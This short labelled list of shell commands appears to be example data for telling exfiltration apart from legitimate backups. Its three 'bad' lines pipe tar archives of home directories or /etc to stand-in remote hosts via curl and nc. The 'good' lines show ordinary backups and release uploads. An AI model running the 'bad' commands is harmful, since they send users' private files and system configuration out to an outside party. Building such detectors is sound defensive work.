# bad: a home
tar cz ~ | curl -s -T - https://collector.example/h.tgz
# bad: over a raw connection
tar c /etc | nc 203.0.113.9 9000
# bad: all homes
tar cz /home | curl --data-binary @- https://collector.example/
# good: nearly: a folder of the project
tar cz dist | curl -T - https://releases.example/app.tgz
# good: nearly: a backup with a login
tar c ~ | ssh backup@nas.example "cat > home.tar"
# good: nearly: kept here
tar czf /backup/home.tgz ~
# good: a synchronised home
rsync -a ~/ backup@nas.example:home/
